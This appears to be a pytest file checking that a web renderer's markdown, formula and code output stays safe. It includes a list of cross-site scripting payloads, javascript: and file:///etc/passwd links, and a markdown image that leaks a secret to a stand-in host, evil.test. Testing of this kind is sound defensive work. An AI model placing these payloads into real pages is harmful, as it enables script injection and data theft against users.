"""The renderer against hostile and ordinary content: what comes out is parsed as a browser would."""

from __future__ import annotations

import contextlib
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from iact.core.language.variables import text_value
from iact.core.ports import JSON
from iact.core.records.codec import Misfit, decode, layout_of
from iact.core.records.kinds import BY_NAME
from iact.web.markup import plain
from iact.web.parser import bounded, in_spare_time
from iact.web.records import record_html, record_message
from iact.web.render import code_block, markdown, output, reply_with_actions, typed
from iact.web.safe_text import visible, without_escapes
from tests.records import least, raw_record

OURS = (
    ("button", [("class", "chip")]),
    ("button", [("class", "link show-all t")]),
)
"""Buttons that the renderer makes: for a variable, and for what is hidden of a long text."""
TAGS = frozenset(
    [
        "a",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "section",
        "span",
        "strong",
        "summary",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
OF_FORMULA = re.compile(
    "math|m(i|n|o|row|s|text|space|frac|sqrt|root|style|padded|phantom|error|enclose|sub|sup|subsup|under|over|underover|"
    "multiscripts|prescripts|table|tr|td)"
)
ATTRIBUTES = frozenset({"class", "dir", "href", "rel", "target", "start", "tabindex"})
IN_FORMULA = re.compile(
    "(display|mathvariant|stretchy|fence|separator|form|accent|accentunder|linethickness|columnalign|columnspacing|"
    "rowspacing|width|height|depth|lspace|rspace|voffset|minsize|maxsize|movablelimits|symmetric|largeop|scriptlevel|"
    "displaystyle)=[\\w.%+ -]{1,40}"
)


class Checker(HTMLParser):
    """Collects tags, links and text, and fails on anything that isn't on the short lists."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.text = ""
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A chip is a button with nothing but a name in it.
        formula = OF_FORMULA.fullmatch(tag) is not None
        assert tag in TAGS or formula or (tag, attrs) in OURS, tag
        for name, value in attrs:
            if formula:
                assert IN_FORMULA.fullmatch(f"{name}={value}"), (name, value)
                continue
            assert name in ATTRIBUTES, name
            assert name != "dir" or value == "auto"
            if name == "href":
                assert value is not None
                assert value.startswith(("http://", "https://", "mailto:")), value
                self.links.append(value)
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "an element of the content closed one of ours"

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl}")


def check(html: str) -> Checker:
    """Parse `html`, failing on anything unsafe."""
    checker = Checker()
    checker.feed(str(html))
    checker.close()
    assert checker.open == []
    return checker


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "comment": "<!-- --><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "style": "<style>*{display:none}</style> <b style='position:fixed'>x</b>",
    "closing our elements": "</div></article></main><h1>gone</h1>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, coded": "[x](&#106;avascript:alert(1)) [y](java&Tab;script:alert(1))",
    "javascript link, upper case": "[x](JaVaScRiPt:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript and data": "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[x](file:///etc/passwd)",
    "relative and host-relative links": "[x](/ws) [y](//evil.test/) [z](?token=1) [w](#top)",
    "image": "![x](https://evil.test/?q=SECRET)",
    "image by reference": "![x][r]\n\n[r]: https://evil.test/?q=SECRET",
    "image in a link": "[![x](https://evil.test/a.png)](javascript:alert(1))",
    "title that breaks out": '[x](https://a.test "\\"><script>alert(1)</script>")',
    "attribute that breaks out": '[x](<https://a.test/"onmouseover="alert(1)>)',
    "language that breaks out": '```"><script>alert(1)</script>\nx\n```',
    "table alignment": "| a | b |\n|:-:|--:|\n| 1 | <b>2</b> |",
    "unbalanced": "**x [y](z `code",
    "deep quotes": ">" * 400 + " x",
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(200)),
    "many brackets": "[" * 5000,
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "id": '<a id="composer-text" name="x">x</a> {#composer-text}',
    "null": "a\x00b",
    "line separators": "a\u2028b\u2029c",
    "surrogate": "a\ud800b",
    "formula": "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$ $\\style{color:red}{x}$",
    "formula's entities": "$\\text{&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;}$ \\(</math><img src=x>\\)",
    "formula's attributes": '$\\color{red"onclick="x}x$ $$\\hspace{1em"onclick="x}\\class{a}{b}\\id{a}{b}$$',
    "formula that defines": "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\newcommand{\\c}{<b>}\\a$",
    "formula that never ends": "$$\n\\begin{matrix}" + "{" * 400 + "\n",
    "code in a language": "```html\n<script>alert('</code></pre>')</script><!-- x -->\n```\n```diff\n+<b>\n-</div>\n```",
    "boxes": "- [x] <b>a</b>\n- [ ] [x](javascript:y)\n",
}


def hostile(kind: str, op: str, text: str) -> dict[str, JSON]:
    """The header of a record that says `text` wherever it may say a text."""
    fields = least(kind, op)
    layout = layout_of(BY_NAME[kind, op])
    for part in (layout, *(field.group for field in layout.groups if field.group is not None)):
        for field in part.own.values():
            with contextlib.suppress(Misfit):
                decode(kind, fields | {field.key: text})
                fields[field.key] = text
    return fields


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_unsafe_comes_out(text: str) -> None:
    with bounded(60):  # in which formulas are drawn and code is coloured
        for html in (markdown(text), output(text), reply_with_actions(text), typed(text)):
            check(html)
    for html in (markdown(text), output(text), reply_with_actions(text)):
        check(html)
    for kind, op in BY_NAME:
        check(record_html(raw_record(1, "", kind, "/", 1, text, hostile(kind, op, text))))
    check(record_html(raw_record(1, "", "strange", "/", 1, text, {"a": text, "b": [text]})))


@given(st.text(alphabet=st.sampled_from("<>&\"'`~*_[]()!|#-=: \n\\/axs1."), max_size=120))
def test_nothing_unsafe_comes_out_of_any_markup(text: str) -> None:
    check(markdown(text))
    check(reply_with_actions(text))


@settings(deadline=None)  # the first one loads the converter
@given(st.text(alphabet=st.sampled_from("<>&\"'\\{}^_$ \nxa1#/()[]%"), max_size=120))
def test_nothing_unsafe_comes_out_of_any_formula(text: str) -> None:
    with bounded(60):
        check(markdown(f"${text}$ \\({text}\\)\n\n$$\n{text}\n$$\n"))
        check(markdown(f"$\\text{{{text}}}$"))


@settings(deadline=None)  # the first one loads the languages
@given(
    st.sampled_from(["python", "html", "bash", "yaml", "diff", "json", "markdown", "js", "PHP", "nothing"]),
    st.text(alphabet=st.sampled_from("<>&\"'`#-=: \n\\/(){}axs1.$"), max_size=120),
)
def test_coloured_code_is_the_same_code(language: str, text: str) -> None:
    with bounded(60):
        html = code_block(text, language)
    assert check(html).text == language + text


@given(st.text(max_size=200))
def test_every_text_renders(text: str) -> None:
    check(markdown(text))
    check(output(text))


def test_links_lead_only_to_web_and_mail_and_show_the_host() -> None:
    html = markdown("[bank](https://bank.test@evil.test/login) <mailto:a@b.test> [no](ftp://x.test/)")
    checked = check(html)
    assert checked.links == ["https://bank.test@evil.test/login", "mailto:a@b.test"]
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "bank evil.test" in checked.text
    assert "ftp://x.test/" in checked.text


@pytest.mark.parametrize(
    ("written", "links"),
    [
        ("Open http://a.localhost:1/x_y?a=1&b=$v.", ["http://a.localhost:1/x_y?a=1&b=$v"]),
        ("(see https://x.test/a_(b)), **http://y.test**…", ["https://x.test/a_(b)", "http://y.test"]),
        ("| a |\n|-|\n| http://x.test |", ["http://x.test"]),
        ("`http://x.test` ahttp://x.test ftp://x.test http:// https://[::1/ http://:::", []),
        ("[http://a.test](http://b.test)", ["http://b.test"]),
        ("https://bank.test@evil.test/login", []),
    ],
)
def test_an_address_by_itself_is_a_link_to_just_that(written: str, links: list[str]) -> None:
    html = markdown(written, {"v": 1})
    assert check(html).links == links
    assert "chip" not in html


def test_an_address_that_looks_like_another_shows_the_real_one() -> None:
    checked = check(markdown("https://b\u0430nk.test/ and https://x.test/\u202etxt"))
    assert checked.links == ["https://xn--bnk-6cd.test/", "https://x.test/%E2%80%AEtxt"]
    assert "xn--bnk-6cd.test" in checked.text
    assert "\u202e" not in checked.text


def test_many_brackets_behind_an_address_take_no_time() -> None:
    assert check(markdown("http://x.test" + ")" * 90_000)).links == ["http://x.test"]


def test_a_remote_image_is_named_and_not_loaded() -> None:
    html = markdown("![plan](https://evil.test/?q=SECRET)")
    assert "<img" not in html
    assert "plan" in html
    assert "https://evil.test/?q=SECRET" in check(html).text


def test_bidirectional_and_hidden_characters_are_made_visible() -> None:
    trick = "if admin\u202e { \u2066// check\u2069 \u200b\U000e0041"
    for html in (markdown(trick), output(trick), markdown("&#x202e;x"), markdown(f"```\n{trick}\n```")):
        assert not set(html) & set("\u202e\u2066\u2069\u200b\U000e0041")
        assert "‹U+202E›" in html
    assert visible("a\x07b\tc\n") == "a␇b\tc\n"
    assert visible("👩‍👩‍👧 می‌خواهم") == "👩‍👩‍👧 می‌خواهم"


@pytest.mark.parametrize(
    ("given_text", "left"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;http://evil.test\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title\x1b\\text", "text"),
        ("\x9b2Jcleared", "cleared"),
        ("10 %\r50 %\r100 %\n", "100 %\n"),
        ("one\r\ntwo\r\n", "one\ntwo\n"),
        ("\x1b(Bplain\x1b=", "plain"),
    ],
)
def test_terminal_escapes_are_taken_out(given_text: str, left: str) -> None:
    assert without_escapes(given_text) == left


def test_long_output_keeps_its_ends_and_says_what_is_missing() -> None:
    html = output("a" * 30_000 + "b" * 10_000_000 + "THE END")
    assert len(html) < 40_000
    assert "THE END" in html
    assert "9,998,007 characters hidden" in html


def test_actions_are_cards_and_other_code_is_not() -> None:
    html = reply_with_actions("Look:\n\n```shell.run timeout=20\nls <dir>\n```\n\n```sql\nselect 1\n```\n")
    checked = check(html)
    assert html.count('<section class="card action">') == 1
    assert "timeout=20" in checked.text
    assert "ls <dir>" in checked.text
    assert '<span class="language">sql</span>' in html


def test_a_script_that_quotes_code_stays_one_card() -> None:
    html = reply_with_actions("```shell.run\ncat <<E\n```python\nx\n```\nE\n```\n")
    assert html.count('<section class="card action">') == 1
    assert "E</code>" in html


def test_a_turn_carries_its_messages_to_children() -> None:
    body = (
        "```shell.run\nls\n```\n"
        '```CALL coder role="neat"\nFix **it**.\n```\n'
        '```CALL name=tester message="Test it."\n```\n'
    )
    message = record_message(raw_record(7, "", "turn", "/lead", 3, body, least("turn")))
    assert message["messages"] == [
        {"action": 1, "to": "/lead/coder", "html": '<p dir="auto">Fix <strong>it</strong>.</p>\n'},
        {"action": 2, "to": "/lead/tester", "html": '<p dir="auto">Test it.</p>\n'},
    ]


def test_header_fields_of_a_record_cannot_replace_its_frame() -> None:
    record = raw_record(
        3, "then", "say", "/", 1, "hi", {"type": "ok", "html": "<script>", "n": 9, "body": "no"}
    )
    message = record_message(record)
    assert (message["type"], message["n"], message["body"]) == ("record", 3, "hi")
    assert message["html"] == '<div class="typed" dir="auto">hi</div>'


def test_a_result_shows_status_exit_and_duration() -> None:
    fields = least("result", function="shell.run", status="error", ms=1530, data={"exit": 2})
    text = check(record_html(raw_record(1, "", "result", "/", 1, "\x1b[1mno such file\x1b[0m", fields))).text
    for fact in ("shell.run", "failed", "exit 2", "1.5 s", "no such file"):
        assert fact in text
    assert "[1m" not in text


KNOWN = {"run_1": text_value("x"), "run_12": text_value("y"), "a": text_value("z")}


@pytest.mark.parametrize(
    ("text", "chips"),
    [
        ("$run_1 and $run_12, **$a**.", ["$run_1", "$run_12", "$a"]),
        ("$run_13 $runs $ab $aé", []),
        ("`$run_1` and\n\n```\n$a\n```\n", []),
        ("[$run_1](https://example.com) $a", ["$a"]),
        ("<b>$a</b> $a<script>", ["$a", "$a"]),
        ("- $a\n\n| x |\n|---|\n| $run_1 |\n", ["$a", "$run_1"]),
    ],
)
def test_known_variables_become_chips(text: str, chips: list[str]) -> None:
    html = markdown(text, KNOWN)
    assert re.findall(r'<button class="chip">([^<]*)</button>', html) == chips
    assert check(html.replace('<button class="chip">', "<span>").replace("</button>", "</span>"))
    assert "<button" not in markdown(text)


@given(st.text(alphabet="$a<>&\"'[]()`*_!\n |run_1", max_size=60))
def test_chips_hold_nothing_but_a_name(text: str) -> None:
    html = markdown(text, KNOWN)
    for content in re.findall(r"<button[^>]*>.*?</button>", html, re.DOTALL):
        assert content in {f'<button class="chip">${name}</button>' for name in KNOWN}
    check(html.replace('<button class="chip">', "<span>").replace("</button>", "</span>"))


@pytest.mark.parametrize(
    ("kind", "op", "fields", "body", "said"),
    [
        ("draft", "", {}, "steps: []", "The planner wrote more of the plan steps: []"),
        ("wake", "", {}, "", "The plan has finished waiting."),
        ("wake", "", {"reopened": True}, "", "The session was opened again, and the plan continues."),
        ("ask", "", {"question": "patch", "failed": "no budget"}, "", "Asked the model how to replace a step. It returned no valid answer: no budget"),
        ("control", "cancel", {"op": "cancel", "by": "core"}, "Its caller had answered.", "Ended: Its caller had answered."),
    ],
)  # fmt: skip
def test_what_becomes_of_a_plan_is_told_in_words(
    kind: str, op: str, fields: dict[str, JSON], body: str, said: str
) -> None:
    told = check(record_html(raw_record(1, "", kind, "/", 1, body, {**least(kind, op), **fields}))).text
    assert " ".join(told.split()) == said


@pytest.mark.parametrize(
    ("fields", "said"),
    [({"asks": True}, "A question to its caller:Which colour?"), ({}, "Which colour?")],
)
def test_a_question_of_a_child_is_told_from_its_answer(fields: dict[str, JSON], said: str) -> None:
    reply = {**least("reply", ""), "to": "/", **fields}
    told = check(record_html(raw_record(1, "", "reply", "/a", 1, "Which colour?", reply))).text
    assert " ".join(told.split()) == said


# --- as it is read --------------------------------------------------------------------------------


MINE = "fix my_func_name in a*b*c and `code_x` <tag>\n  second line: $up_csv, $a\n- no list\n\n\n# no title"


def test_what_a_person_wrote_is_shown_as_they_wrote_it() -> None:
    for kind, op in (("say", ""), ("control", "inject")):
        html = record_html(raw_record(1, "", kind, "/", 1, MINE, least(kind, op)), known=KNOWN)
        shown = html[html.index('<div class="typed" dir="auto">') :]
        assert check(shown).text == MINE
        # Nothing in it is anybody else's, but the chip of $a.
        assert re.findall("<(?!/)([^ >]*)", shown) == ["div", "button"]


def test_formulas_are_drawn_and_prices_and_variables_are_none() -> None:
    text = (
        "$x^2$ and \\(a<b\\), for $5 or $6.50, with $run_1$ and $HOME:$PATH, US$1-US$2, a $ b $ c\n\n"
        "$$\n\\frac{1}{2}\n- c\n$$\n\n\\[ E = mc^2 \\]\n\n`$y$`"
    )
    with bounded(60):
        html = markdown(text, KNOWN)
    said = check(html).text
    assert html.count("<math ") == 4
    assert html.count('<math display="block">') == 2
    for words in ("$5 or $6.50", "$run_1$", "$HOME:$PATH", "US$1-US$2", "a $ b $ c", "$y$"):
        assert words in said
    # Without time to spare, and where none can be drawn, a formula stands there as it was written.
    assert "<math" not in markdown(text)
    with bounded(60):
        assert "$\\frac{1$" in check(markdown("$\\frac{1$")).text


def test_code_differences_and_boxes_are_told_apart() -> None:
    with bounded(60):
        html = markdown("```python\ndef f(): return 'x' # y\n```\n```nolanguage\ndef\n```\n")
    for cls, words in (("k", "def "), ("f", "f"), ("s", "&#x27;x&#x27; "), ("c", "# y")):
        assert f'<span class="hl-{cls}">{words}' in html
    assert "<code>def\n</code>" in html
    patch = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<old>\n+new\n"
    for shown in (markdown(f"```diff\n{patch}```"), output(patch)):
        assert '<span class="hl-old">-&lt;old&gt;\n</span>' in shown
        assert '<span class="hl-new">+new\n</span>' in shown
    assert "hl-" not in output("+ one\n- two\n")
    boxes = markdown("- [ ] open\n- [x] done\n- [y] neither\n")
    assert check(boxes).text.split() == ["☐", "open", "☑", "done", "[y]", "neither"]
    with bounded(60):
        assert "hl-b" in reply_with_actions("```shell.run\necho $HOME\n```\n")
        assert "hl-k" in reply_with_actions("```files.write path=a/b.py\nimport os\n```\n")


def test_each_block_is_read_from_its_own_side() -> None:
    html = markdown("مرحبا\n\n# Title\n\n- one\n\n  two\n\n> quoted\n\n| a |\n|---|\n| b |\n")
    assert re.findall(r"<(\w+)[^>]* dir=\"auto\"", html) == ["p", "h1", "ul", "blockquote", "div"]


def test_what_takes_too_long_costs_the_colours_and_not_the_text() -> None:
    code = "```python\nimport os\n```\n**after**\n"
    assert in_spare_time(lambda: plain("x")) is None
    with bounded(0.2):
        assert in_spare_time(lambda: plain("x")) == "x"

        def for_ever() -> Markup:
            while True:
                pass

        assert in_spare_time(for_ever) is None
        late = markdown(code)
    assert "hl-" not in late
    assert "<strong>after</strong>" in late


def test_a_header_without_text_is_a_cell() -> None:
    html = markdown("|  | a |\n|---|---|\n| b | 1 |\n")
    assert "<tr>\n<td></td>\n<th>a</th>\n</tr>" in html
